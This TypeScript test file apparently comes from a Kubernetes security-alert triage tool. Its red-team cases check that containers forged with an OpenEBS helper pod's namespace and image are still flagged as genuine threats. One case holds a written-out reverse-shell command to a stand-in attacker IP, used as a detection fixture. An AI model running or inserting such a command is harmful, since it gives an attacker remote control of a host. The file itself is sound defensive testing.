/**
 * Red-team 5 traps for gone helper pods placed by namespace and image only (correlate.ts gonePinnedPod, deleted-pod):
 * the namespace and image a sensor reports are container labels anyone starting a container on the node sets. A
 * container forged with the helper's namespace and image (ctr run) is still judged by what it runs and when: the
 * helper's command after the helper was deleted, a shell in it, or the command under a node login stay genuine.
 * Hole fixed (correlate.ts): the command under an SSH login was placed in the gone helper pod by its labels; a process
 * descended from a node login is no longer placed in a gone pod by namespace and image or by its command.
 */
import { describe, expect, it } from 'vitest';
import type { AuditActivity } from '../../../src/cluster/model.js';
import { summarizePodSpec } from '../../../src/cluster/audit.js';
import { buildIndex } from '../../../src/cluster/index.js';
import { triageAlert } from '../../../src/triage/pipeline.js';
import { alert, node, pod, snapshot } from '../../support/cluster.js';

const W1 = 'hel1-wrk-01';
const W2 = 'hel1-wrk-02';
const T = (hms: string) => `2027-03-16T${hms}.000Z`;
const NS = 'openebs';
const SA = 'system:serviceaccount:openebs:openebs-localpv-provisioner';
const HELPER_IMAGE = 'openebs/linux-utils:4.1.0';
const PV = 'pvc-8cf1ac13-310b-413a-a255-c2aab40ae180';

const provisioner = pod('openebs-localpv-provisioner-4b6c-x2k9q', {
  namespace: NS,
  node: W1,
  ip: '10.244.0.9',
  owner: { kind: 'ReplicaSet', name: 'openebs-localpv-provisioner-4b6c' },
  containers: [{ name: 'openebs-localpv-provisioner', image: 'openebs/provisioner-localpv:4.1.1' }],
});
provisioner.spec.serviceAccountName = 'openebs-localpv-provisioner';
provisioner.status!.hostIP = '10.50.1.21';

function helper(name: string, time: string, nodeName: string, command: string[], from = '10.50.1.21', boundTo = provisioner.metadata.name): AuditActivity {
  const body = {
    kind: 'Pod',
    apiVersion: 'v1',
    metadata: { name, namespace: NS },
    spec: {
      nodeName,
      restartPolicy: 'Never',
      containers: [{ name: 'local-path-init', image: HELPER_IMAGE, command, volumeMounts: [{ name: 'data', mountPath: '/data' }] }],
      volumes: [{ name: 'data', hostPath: { path: '/var/openebs/local', type: 'DirectoryOrCreate' } }],
    },
  };
  return { time: T(time), user: SA, groups: ['system:serviceaccounts'], verb: 'create', resource: 'pods', namespace: NS, name, sourceIps: [from], code: 201, tokenBoundPod: boundTo, podSpec: summarizePodSpec(body) };
}
const deletion = (a: AuditActivity, time: string): AuditActivity => ({ ...a, time: T(time), verb: 'delete', podSpec: undefined, code: 200 });

function verdictFor(activities: AuditActivity[], cmd: string, host = W2, time = T('01:30:04'), ancestors = [{ name: 'containerd-shim-runc-v2', commandLine: '/var/lib/k0s/bin/containerd-shim-runc-v2 -namespace k8s.io -id 1f2e -address /run/k0s/containerd.sock' }]) {
  const snap = snapshot([node(W1, '10.50.1.21'), node(W2, '10.50.1.22'), provisioner]);
  snap.auditActivities = activities;
  const a = alert({
    host,
    time,
    process: { name: cmd.split(' ')[0], path: '/bin/mkdir', commandLine: cmd },
    ancestors,
    container: { id: 'c'.repeat(64), namespace: NS, image: HELPER_IMAGE },
  });
  return triageAlert(a, { index: buildIndex([snap]) }).verdict;
}

const INIT = ['mkdir', '-m', '0777', '-p', `/data/${PV}`];
const init = helper(`init-${PV}`, '01:30:02', W2, INIT);

describe('redteam5 gone helper pods placed by namespace and image', () => {
  it('still explained: the helper running its own command while it existed', () => {
    expect(verdictFor([init, deletion(init, '01:30:09')], INIT.join(' ')).label).toBe('likely-false-positive');
  });
  it("trap: the helper's command again an hour after the helper was deleted", () => {
    expect(verdictFor([init, deletion(init, '01:30:09')], INIT.join(' '), W2, T('02:31:00')).label).toBe('genuine');
  });
  it('trap: a reverse shell in a container forged with the helper namespace and image while it existed', () => {
    expect(verdictFor([init, deletion(init, '01:30:09')], 'sh -c "sh -i >& /dev/tcp/203.0.113.9/4444 0>&1"').label).toBe('genuine');
  });
  it('trap: the same command typed in an SSH login on the node', () => {
    expect(verdictFor([init, deletion(init, '01:30:09')], INIT.join(' '), W2, T('01:30:04'), [{ name: 'bash', commandLine: '-bash' }, { name: 'sshd', commandLine: 'sshd: root@pts/0' }]).label).toBe('genuine');
  });
});
